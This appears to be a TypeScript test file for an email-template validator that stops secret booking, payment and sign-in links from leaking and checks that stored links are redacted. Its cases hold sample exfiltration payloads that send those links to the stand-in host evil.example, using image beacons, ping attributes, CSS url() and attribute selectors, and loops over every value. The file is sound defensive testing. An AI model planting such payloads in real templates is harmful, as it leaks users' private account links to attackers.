import { DEFAULT_TEMPLATES } from './default-templates.js';
import { SECRET_LINK_VARIABLES, withoutSecretLinks, headersWithoutSecretLinks } from './secret-variables.js';
import { SUPERSEDED_DEFAULTS } from './superseded-defaults.js';
import { templateProblems, templateSafetyProblems } from './template-safety.js';

const html = (source: string) => templateProblems('htmlContent', source).map((problem) => problem.message);
const text = (source: string) => templateProblems('textContent', source).map((problem) => problem.message);

describe('template safety', () => {
  it.each(DEFAULT_TEMPLATES.map((template) => [template.name, template]))(
    'accepts the default template %s',
    (_name, template) => {
      expect(templateSafetyProblems(template)).toEqual([]);
    },
  );

  it('accepts the defaults of earlier versions (what stored templates may still hold)', () => {
    for (const template of Object.values(SUPERSEDED_DEFAULTS).flat())
      expect(templateSafetyProblems(template)).toEqual([]);
  });

  it('accepts a private link as the whole href of a link, as text standing alone, and as a condition', () => {
    expect(html('<a href="{{manageUrl}}">Manage</a>')).toEqual([]);
    expect(html('<a class="button" href=" {{payUrl}} " target="_blank">Pay</a>')).toEqual([]);
    expect(html('<a href={{signInUrl}}>Sign in</a>')).toEqual([]);
    expect(html('{{#if manageUrl}}<p>Or open {{manageUrl}} in a browser.</p>{{else}}<p>No link</p>{{/if}}')).toEqual(
      [],
    );
    expect(html('{{#unless unsubscribeUrl}}x{{/unless}} {{@root.manageUrl}}')).toEqual([]);
    expect(text('Manage your booking: {{manageUrl}}\n')).toEqual([]);
    expect(text('({{manageUrl}}).')).toEqual([]);
  });

  it.each([
    ['an image', '<img src="https://evil.example/p?u={{manageUrl}}">'],
    ['an image of its own', '<img src="{{manageUrl}}">'],
    ['another address', '<a href="https://evil.example/?next={{manageUrl}}">Manage</a>'],
    ['text around it in the href', '<a href="{{manageUrl}}&x=1">Manage</a>'],
    ['a link that pings elsewhere', '<a href="{{manageUrl}}" ping="https://evil.example/">Manage</a>'],
    ['a style attribute', '<p style="background: url({{manageUrl}})">x</p>'],
    ['a srcset', '<img srcset="{{manageUrl}} 1x">'],
    ['a style block', '<style>body { background: url({{manageUrl}}) }</style>'],
    ['a comment Outlook reads', '<!--[if mso]><v:image src="{{manageUrl}}"/><![endif]-->'],
    ['an attribute name', '<img {{manageUrl}}>'],
    ['text joined to another address', '<p>https://evil.example/?{{manageUrl}}</p>'],
    ['text joined to another value', '<p>{{firstName}}{{manageUrl}}</p>'],
    ['an address split over a condition', '<img src="https://evil.example/?{{#if x}}{{/if}}{{manageUrl}}">'],
    ['an address in one branch', '<a href="{{#if x}}{{else}}https://evil.example/?{{/if}}{{manageUrl}}">x</a>'],
    ['a helper', '{{#with manageUrl}}<img src="https://evil.example/?{{this}}">{{/with}}'],
    ['a lookup by name', '<img src="https://evil.example/?{{lookup this "manageUrl"}}">'],
    ['a part of it', '<a href="{{manageUrl.length}}">x</a>'],
    ['the log helper', '{{log manageUrl}}'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url={{manageUrl}}">'],
    ['an SVG link', '<svg><a href="{{manageUrl}}">x</a></svg>'],
  ])('refuses a private link in %s, naming it', (_where, source) => {
    const problems = html(source);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.join(' ')).toContain('{{manageUrl}}');
  });

  it('refuses attribute selectors in a style block of a template that carries a private link', () => {
    const source =
      '<style>a[href^="http://coworking.example/bookings/manage/a"] { background: url(https://evil.example/a) }</style><a href="{{manageUrl}}">x</a>';
    expect(html(source).join(' ')).toContain('attribute selector');
    expect(html('<style>a[href] { color: red }</style><p>{{firstName}}</p>')).toEqual([]);
  });

  it('refuses helpers that hand every value over, and partials', () => {
    expect(html('{{#each this}}<img src="https://evil.example/?{{@key}}={{this}}">{{/each}}').join(' ')).toContain(
      'every value',
    );
    expect(html('{{#each @root}}{{this}}{{/each}}').join(' ')).toContain('every value');
    expect(html('{{> footer}}').join(' ')).toContain('partial');
  });

  it('refuses unescaped values in the HTML, naming them, and allows them where everything is text', () => {
    expect(html('<p>Hi {{{firstName}}}</p>')).toEqual([
      'The HTML content prints {{{firstName}}} without escaping: use {{firstName}}, so that what a visitor typed cannot add HTML to the e-mail.',
    ]);
    expect(html('<p>Hi {{& firstName}}</p>').join(' ')).toContain('{{{firstName}}}');
    expect(text('Hi {{{firstName}}}')).toEqual([]);
  });

  it('refuses a private link in the subject and one joined to other text in the text part', () => {
    expect(templateProblems('subject', 'Your link {{signInUrl}}')[0].message).toContain('{{signInUrl}}');
    expect(text('https://evil.example/?{{payUrl}}')[0]).toContain('{{payUrl}}');
    expect(text('{{payUrl}}&x=1')[0]).toContain('{{payUrl}}');
  });

  it('leaves a syntax error to the syntax check', () => {
    expect(html('{{#if x}}')).toEqual([]);
  });
});

describe('secret links kept after sending', () => {
  it('replaces every secret link, and only those, with [redacted]', () => {
    const variables = { firstName: 'Wanjiku', manageUrl: 'https://x/bookings/manage/abc', portalUrl: 'https://x/p' };
    expect(withoutSecretLinks(variables)).toEqual({ ...variables, manageUrl: '[redacted]' });
    expect(withoutSecretLinks({ firstName: 'Wanjiku' })).toBeNull();
    expect(withoutSecretLinks({ manageUrl: '[redacted]' })).toBeNull();
    expect(SECRET_LINK_VARIABLES).toEqual(
      expect.arrayContaining(['manageUrl', 'signInUrl', 'payUrl', 'unsubscribeUrl']),
    );
  });

  it('redacts the List-Unsubscribe header and keeps the others', () => {
    const headers = { 'List-Unsubscribe': '<https://x/u/abc>', 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click' };
    expect(headersWithoutSecretLinks(headers)).toEqual({ ...headers, 'List-Unsubscribe': '[redacted]' });
    expect(headersWithoutSecretLinks({})).toBeNull();
  });
});
